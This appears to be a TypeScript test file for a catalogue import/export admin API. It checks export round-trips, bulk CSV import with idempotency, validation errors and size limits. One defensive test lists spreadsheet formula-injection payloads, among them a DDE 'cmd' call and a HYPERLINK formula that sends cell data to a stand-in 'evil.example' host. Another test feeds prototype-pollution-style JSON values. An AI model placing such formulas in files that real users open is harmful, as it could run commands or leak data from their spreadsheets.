import type { Wire } from '@wondercast/openapi/codec/wire';
import { beforeAll, expect, it } from 'vitest';
import type { SignedInClient } from '../../support/app.ts';
import { unique } from '../../support/builders.ts';
import { describeOnEachStore } from '../account/each-store.ts';

type Preview = Wire<'ImportPreview'> & Wire<'Problem'>;
type Counts = Wire<'ImportCounts'> & Wire<'Problem'>;

const PREVIEW = '/api/admin/catalogue/import/preview';
const IMPORT = '/api/admin/catalogue/import';

describeOnEachStore('files of the catalogue', (app) => {
  let admin: SignedInClient;
  beforeAll(async () => {
    admin = await app().admin();
  });
  const exported = (kind: string, format: string) =>
    admin.get<string>(`/api/admin/catalogue/export?kind=${kind}&format=${format}`);
  const preview = (body: object) => admin.post<Preview>(PREVIEW, { format: 'csv', ...body });
  const bring = (body: object, key?: string) =>
    admin.request<Counts>('POST', IMPORT, {
      body: { format: 'csv', ...body },
      headers: key ? { 'idempotency-key': key } : {},
    });
  const listed = async () => (await app().client().get<Wire<'Experience'>[]>('/api/experiences')).body;

  it.each([
    ['experiences', 'csv', 28],
    ['experiences', 'json', 28],
    ['categories', 'csv', 6],
    ['add-ons', 'csv', 10],
  ])('export %s as %s, which imports without a change', async (kind, format, least) => {
    const before = await listed();
    const { status, headers, text } = await exported(kind, format);
    expect(status).toBe(200);
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${kind}.${format}"`);
    expect(headers.get('cache-control')).toBe('no-store');
    const { body } = await preview({ kind, format, text });
    expect(body).toMatchObject({ created: 0, updated: 0, errors: [] });
    expect(body.same).toBeGreaterThanOrEqual(least);
    const done = await bring({ kind, format, text, version: body.version });
    expect(done.body).toEqual({ created: 0, updated: 0, same: body.same });
    expect(await listed()).toEqual(before);
  });

  it('import forty experiences at once, once per key, and serve them at once', async () => {
    const mark = unique('brought');
    const rows = Array.from(
      { length: 40 },
      (_, at) =>
        `${mark}-${at};"Brought; number ${at}";A long enough text;60 min;/uploads/demo/trivia-card-772.webp;A host`,
    );
    const text = ['slug;title;description;duration;imageUrl;inclusions', ...rows].join('\r\n');
    const shown = await preview({ kind: 'experiences', text });
    expect(shown.body).toMatchObject({ created: 40, updated: 0, same: 0, errorCount: 0 });
    expect(shown.body.rows[1]).toMatchObject({ line: 3, key: `${mark}-1`, change: 'create' });
    const file = { kind: 'experiences', text, version: shown.body.version };
    const answers = [await bring(file, mark), await bring(file, mark)];
    expect(answers.map(({ status, body }) => [status, body])).toEqual(
      Array.from({ length: 2 }, () => [200, { created: 40, updated: 0, same: 0 }]),
    );
    const found = (await listed()).filter(({ slug }) => slug.startsWith(mark));
    expect(found).toHaveLength(40);
    expect(found[3]).toMatchObject({ title: 'Brought; number 3' });
    const again = await bring(file);
    expect([again.status, again.body.message]).toEqual([
      409,
      'The catalogue has changed since the preview. Look at the changes again.',
    ]);
    const { body: log } = await admin.get<Wire<'AuditEntry'>[]>('/api/admin/audit?limit=60');
    expect(log.filter(({ action }) => action === 'experience.created')).toHaveLength(40);
    expect(log.find(({ action }) => action === 'catalogue.imported')?.details).toEqual({
      created: 40,
      updated: 0,
      same: 0,
    });
  });

  it.each([
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    '+1+cmd',
    '@SUM(1+1)*cmd',
    '-2+3+cmd',
    '\t=cmd',
  ])(
    'keep a formula as text that no spreadsheet runs, and that comes back as it was: %j',
    async (formula) => {
      const slug = unique('formula');
      const title = `${formula} ${slug}`.trim();
      const record = {
        slug,
        title: `${formula} ${slug}`,
        description: `${formula} is a long enough text`,
        duration: '60 min',
        imageUrl: '/uploads/demo/trivia-card-772.webp',
        inclusions: 'A host',
      };
      const file = { kind: 'experiences', format: 'json', text: JSON.stringify([record]) };
      const { version } = (await preview(file)).body;
      expect((await bring({ ...file, version })).status).toBe(200);
      expect((await listed()).find((each) => each.slug === slug)?.title).toBe(title);
      const { text } = await exported('experiences', 'csv');
      const [line = ''] = text.split('\n').filter((each) => each.includes(slug));
      // What stands before a formula in its cell is the apostrophe that makes text of it.
      expect(line).toMatch(/[,;]"?'[\t]?[=+@-]/);
      expect(line).not.toMatch(/(?:^|[,;])"?\s*[=+@-]/);
      const again = await preview({ kind: 'experiences', text });
      expect(again.body).toMatchObject({ created: 0, updated: 0, errors: [] });
    },
  );

  it('change nothing when one line is wrong, and say which', async () => {
    const before = await listed();
    const slug = before[0]?.slug;
    const text = `slug,title\n${slug},Another title\n${before[1]?.slug},X`;
    const { body } = await preview({ kind: 'experiences', text });
    expect(body.errors).toEqual([
      { line: 3, field: 'title', message: 'Title must be at least 3 characters long' },
    ]);
    const refused = await bring({ kind: 'experiences', text, version: body.version });
    expect([refused.status, refused.body.message]).toEqual([
      422,
      'Line 3, title: Title must be at least 3 characters long',
    ]);
    expect(await listed()).toEqual(before);
  });

  it('are refused above four megabytes, and read below', async () => {
    const large = await preview({ kind: 'categories', text: `slug\n${'x'.repeat(4_000_000)}` });
    expect(large.status).toBe(413);
    const nearly = await preview({ kind: 'categories', text: `slug,name\nwide,${'x'.repeat(3_900_000)}` });
    expect([nearly.status, nearly.body.errors]).toEqual([
      200,
      [{ line: 2, field: 'name', message: 'Must be at most 80 characters long' }],
    ]);
  });

  it.each([
    [{ kind: 'logos', text: '' }, 'Must be experiences, categories or add-ons'],
    [{ kind: 'categories', text: '' }, 'The file has no rows.'],
    [{ kind: 'categories', text: 'slug\n"open' }, 'Line 2: A quoted cell does not end.'],
    [{ kind: 'categories', format: 'json', text: '{"toString":1}' }, 'The file must be a list of records.'],
  ])('are refused in words: %j', async (body, message) => {
    const refused = await preview(body);
    expect([refused.status, refused.body.message]).toEqual([422, message]);
  });

  it('take hostile values of JSON as wrong values', async () => {
    const hostile = { toString: 1, constructor: null };
    const record = { slug: unique('hostile'), title: hostile, categories: [hostile], year: '__proto__' };
    const { status, body } = await preview({
      kind: 'experiences',
      format: 'json',
      text: JSON.stringify([record, { slug: hostile }]),
    });
    expect(status).toBe(200);
    expect(body.errors.length).toBeGreaterThan(3);
    expect(body.rows).toEqual([]);
  });
});
